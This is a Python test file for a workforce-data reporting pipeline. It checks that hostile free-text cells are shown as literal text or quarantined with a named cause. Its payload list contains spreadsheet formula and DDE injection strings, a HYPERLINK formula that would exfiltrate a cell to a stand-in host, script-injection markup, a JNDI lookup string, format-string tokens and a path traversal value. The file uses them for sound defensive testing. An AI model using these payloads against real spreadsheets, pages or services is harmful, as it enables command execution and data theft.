"""Hostile text in every free-text column, through the whole pipeline to every output.

Whatever a cell holds, the run either succeeds and shows the text literally (as text: never a
spreadsheet formula, markup, mathtext or a file name outside the report), or quarantines or
blocks with a named cause (file, row, column): never "Internal error". The fuzz test feeds
generated text (very long values, control characters, every character class, the syntax of
each renderer) through all of them at once; the named tests pin the cases found before.
"""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
import zipfile
from html.parser import HTMLParser
from pathlib import Path

from conftest import write_config
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.config import load_settings
from pipeline.quarantine import quarantined_rows
from pipeline.runs import ExitCode
from pipeline.safe_text import is_formula_like, safe_cell, trim
from pipeline.warehouse import connect

STAFF = ["staff_id", "snapshot_date", "worker_type", "rank_or_band", "department", "lpu_code",
         "role", "sex", "ethnicity_code", "date_of_birth", "service_start_date",
         "rank_start_date", "fte", "is_temporary_rank"]  # fmt: skip
PROMOTION = ["process_id", "process_name", "target_rank", "staff_id", "stage_order",
             "stage_name", "outcome", "outcome_date"]  # fmt: skip
RECRUITMENT = ["campaign_id", "campaign_name", "worker_type", "entry_route", "applicant_id",
               "sex", "ethnicity_code", "age_band", "stage_order", "stage_name", "outcome",
               "outcome_date"]  # fmt: skip
ETHNICITIES = ["W1", "A2", "B1", "W1", "M1", "A1"]
GOOD_OFFICERS = 120
PER_PROCESS = 8

RENDERER_SYNTAX = [
    '=HYPERLINK("http://example.invalid/x?"&A1,"Response")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "<script>alert(1)</script>",
    "<b>bold</b> &amp; <!-- -->",
    "]]><x/>",
    '" onmouseover="alert(1)',
    "{{ 7*7 }} {% raw %}",
    "$\\frac$",
    "$x^2$ and $y$",
    "**bold** _it_ [link](http://example.invalid) `code` # head",
    "${jndi:ldap://example.invalid/a}",
    "%s%n%x",
    "line one\nline two",
    "a,b;c|d\te",
    "'quoted' \"double\"",
    "\u202eoverride\u202c",
    "\ufeffBOM inside",
    "bell\x07 escape\x1b[2J nul\x00",
    "Zürich Ωμέγα 中文 العربية 🚓 e\u0301",
    "../../../../tmp/escaped",
    "con",
]
hostile = st.one_of(
    st.sampled_from(RENDERER_SYNTAX),
    st.text(max_size=30),
    st.builds(lambda a, b: a + b, st.sampled_from(RENDERER_SYNTAX), st.text(max_size=8)),
)


def _csv(columns: list[str], rows: list[dict]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def _officer(staff_id: str, role: str, ethnicity: str) -> dict:
    return dict(
        staff_id=staff_id, snapshot_date="2026-03-31", worker_type="police_officer",
        rank_or_band="Constable", department="Local Policing", lpu_code="BHM", role=role,
        sex="F", ethnicity_code=ethnicity, date_of_birth="1990-01-01",
        service_start_date="2015-01-01", rank_start_date="2018-01-01", fte="1",
        is_temporary_rank="N",
    )  # fmt: skip


def write_force(root: Path, texts: list[str], processes: bool = True) -> Path:
    """A tiny force whose roles, process and campaign ids, names, stage names and entry
    routes are ``texts``: every text is an officer's role (``H{i}``, row 122 + i) and one of
    the free-text columns of a promotion process and of a recruitment campaign."""
    config = write_config(root, "[contracts]\nmax_quarantined_share = 1.0\n")
    inbox = root / "inbox"
    officers = [_officer(f"G{i}", "Response", ETHNICITIES[i % 6]) for i in range(GOOD_OFFICERS)]
    officers += [_officer(f"H{i}", text, ETHNICITIES[i % 6]) for i, text in enumerate(texts)]
    (inbox / "staff_snapshot_2026-03-31.csv").write_text(_csv(STAFF, officers), "utf-8")
    if not processes:
        return config
    candidates, applicants = [], []
    for i in range(0, len(texts), 3):  # text i, i+1, i+2: a process's id, name, stage
        process_id, name, stage = (texts[(i + k) % len(texts)] for k in range(3))
        for j in range(PER_PROCESS):
            candidates.append(
                dict(
                    process_id=process_id,
                    process_name=name,
                    target_rank="Sergeant",
                    staff_id=f"G{(i * PER_PROCESS + j) % GOOD_OFFICERS}",
                    stage_order=1,
                    stage_name=stage,
                    outcome="passed" if j % 2 else "failed",
                    outcome_date="2026-01-15",
                )
            )
    for i in range(0, len(texts), 4):  # a campaign's id, name, entry route and stage
        campaign_id, name, route, stage = (texts[(i + k) % len(texts)] for k in range(4))
        for j in range(PER_PROCESS):
            applicants.append(
                dict(
                    campaign_id=campaign_id,
                    campaign_name=name,
                    worker_type="police_officer",
                    entry_route=route,
                    applicant_id=f"A{i}-{j}",
                    sex="M",
                    ethnicity_code=ETHNICITIES[j % 6],
                    age_band="25-34",
                    stage_order=1,
                    stage_name=stage,
                    outcome="passed" if j % 2 else "failed",
                    outcome_date="2026-01-20",
                )
            )
    (inbox / "promotion_candidates_2026.csv").write_text(_csv(PROMOTION, candidates), "utf-8")
    (inbox / "recruitment_applicants_2026.csv").write_text(_csv(RECRUITMENT, applicants), "utf-8")
    return config


class _Text(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def _words(text: str) -> str:
    return " ".join(text.split())


def page_text(page: Path) -> str:
    parser = _Text()
    parser.feed(page.read_text(encoding="utf-8"))
    return _words(" ".join(parser.parts))


def _quarantined(settings) -> dict[tuple[str, int], str]:
    rows = quarantined_rows(settings)
    return {
        (f, int(r)): c for f, r, c in zip(rows["source_file"], rows["source_row"],
                                          rows["column_name"], strict=True)
    }  # fmt: skip


def check_outputs_are_inert(report: Path) -> None:
    """No output of the report can run anything, whatever the input was."""
    for path in (report / "csv").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            for cell in row:
                assert not is_formula_like(cell) or cell.startswith("'"), (path.name, cell)
    workbook = load_workbook(next(report.glob("*.xlsx")))
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    names = [p.relative_to(report).as_posix() for p in report.rglob("*.csv")]
    assert all(re.fullmatch(r"csv/[a-z0-9-]+\.csv", name) for name in names), names
    assert "<script" not in (report / "index.html").read_text(encoding="utf-8")


def check_roles_shown_literally(settings, roles: dict[int, str], quarantined: dict) -> None:
    """Every role not quarantined is in the analysts' database, the roles table's CSV and
    sheet and the page exactly as written (the reader trims the ends: ``safe_text.trim``)."""
    report = settings.paths.reports_dir / "latest"
    with connect(settings.paths.database, read_only=True) as con:
        in_database = {
            label
            for (label,) in con.execute(
                "select distinct unit_label from analytics.specialist_roles "
                "where unit_type = 'role'"
            ).fetchall()
        }
    table = next(r for r in json.loads((report / "tables.json").read_text())["tables"]
             if r["id"] == "specialist-roles")  # fmt: skip
    with (report / table["csv"]).open(encoding="utf-8", newline="") as handle:
        in_csv = {row[0] for row in list(csv.reader(handle))[1:]}
    sheet = load_workbook(next(report.glob("*.xlsx")))[table["sheet"]]
    in_sheet = {c.value for c in sheet["A"] if isinstance(c.value, str)}
    text = page_text(report / "index.html")
    source = (report / "index.html").read_text(encoding="utf-8")
    for row, role in roles.items():
        where = ("staff_snapshot_2026-03-31.csv", row)
        if where in quarantined:
            assert "role" in quarantined[where], (role, quarantined[where])
            continue
        assert role in in_database, role
        assert safe_cell(role) in in_csv, role
        assert role in in_sheet, role
        assert _words(role) in text, role
        if "<" in role:
            assert role not in source, role


def run(config: Path):
    return CliRunner().invoke(app, ["run", "--config", str(config)])


def check_run(root: Path, texts: list[str]) -> None:
    config = write_force(root, texts)
    result = run(config)
    settings_ = load_settings(config)
    assert result.exit_code in (ExitCode.SUCCESS, ExitCode.SUCCESS_WITH_WARNINGS), (
        result.exit_code,
        result.output[-2000:],
    )
    roles = {GOOD_OFFICERS + 2 + i: trim(text) for i, text in enumerate(texts)}
    roles = {row: role for row, role in roles.items() if role}
    check_roles_shown_literally(settings_, roles, _quarantined(settings_))
    check_outputs_are_inert(settings_.paths.reports_dir / "latest")


def _distinct(texts: list[str]) -> list[str]:
    seen, out = set(), []
    for text in texts:
        key = trim(text).casefold()
        if key not in seen:
            seen.add(key)
            out.append(text)
    return out


@settings(
    max_examples=3,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.lists(hostile, min_size=4, max_size=8).map(_distinct).filter(lambda t: len(t) >= 3))
def test_generated_hostile_text_in_every_free_text_column(texts):
    with tempfile.TemporaryDirectory() as root:
        check_run(Path(root), texts)


def test_every_renderers_syntax_at_once(tmp_path):
    check_run(tmp_path, RENDERER_SYNTAX)


def test_a_formula_or_mathtext_in_a_role_reaches_the_outputs_as_text(tmp_path):
    """The reported case: a Role cell =HYPERLINK(...) was a live formula in the workbook
    (and "$\\frac$" in a chart label stopped the run with an internal error)."""
    formula = '=HYPERLINK("http://example.invalid/x?"&A1,"Response")'
    roles = [formula, "@SUM(1)", "+1+1", "-2+3", "$\\frac$ unit", "$x^2$ team"]
    config = write_force(tmp_path, roles, processes=False)
    result = run(config)
    assert result.exit_code == ExitCode.SUCCESS, result.output
    report = tmp_path / "var" / "reports" / "latest"
    with (report / "csv" / "specialist-roles.csv").open(encoding="utf-8", newline="") as f:
        shown = [row[0] for row in csv.reader(f)]
    assert {"'" + formula, "'@SUM(1)", "'+1+1", "'-2+3", "$\\frac$ unit"} <= set(shown)
    sheet = load_workbook(next(report.glob("*.xlsx")))["specialist-roles"]
    cell = next(c for c in sheet["A"] if c.value == formula)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    page = page_text(report / "index.html")
    assert "$\\frac$ unit" in page and "$x^2$ team" in page


def test_a_200000_character_field_a_nul_or_an_escape_is_a_named_row_problem(tmp_path):
    """A field of 200,000 characters was exit 1, "field larger than field limit", with no
    file or row named; a NUL blocked the whole file as "binary data"."""
    texts = ["x" * 200_000, "nul\x00inside", "escape \x1b[2J", "Response"]
    config = write_force(tmp_path, texts, processes=False)
    result = run(config)
    assert result.exit_code == ExitCode.SUCCESS_WITH_WARNINGS, result.output
    rows = quarantined_rows(load_settings(config))
    first = GOOD_OFFICERS + 2
    assert rows[["source_file", "source_row", "rule", "column_name"]].values.tolist() == [
        ["staff_snapshot_2026-03-31.csv", first, "role_length", "role"],
        ["staff_snapshot_2026-03-31.csv", first + 1, "role_printable", "role"],
        ["staff_snapshot_2026-03-31.csv", first + 2, "role_printable", "role"],
    ]
    assert rows["message"].str.len().max() < 400


def test_a_workbook_cut_short_blocks_naming_the_file(tmp_path):
    """Was exit 1, "Internal error: XmlError", when the sheet's XML ended early."""
    config = write_config(tmp_path)
    good = tmp_path / "whole.xlsx"
    workbook = Workbook()
    workbook.active.append(STAFF)
    for i in range(20):
        workbook.active.append(list(_officer(f"G{i}", "Response", "W1").values()))
    workbook.save(good)
    with (
        zipfile.ZipFile(good) as whole,
        zipfile.ZipFile(tmp_path / "inbox" / "staff_snapshot_2026-03-31.xlsx", "w") as cut,
    ):
        for item in whole.infolist():
            data = whole.read(item.filename)
            cut.writestr(item, data[: len(data) // 2] if "worksheets/" in item.filename else data)
    result = run(config)
    assert result.exit_code == ExitCode.BLOCKED, result.output
    assert "staff_snapshot_2026-03-31.xlsx: A sheet of the workbook cannot be read" in " ".join(
        result.output.split()
    )
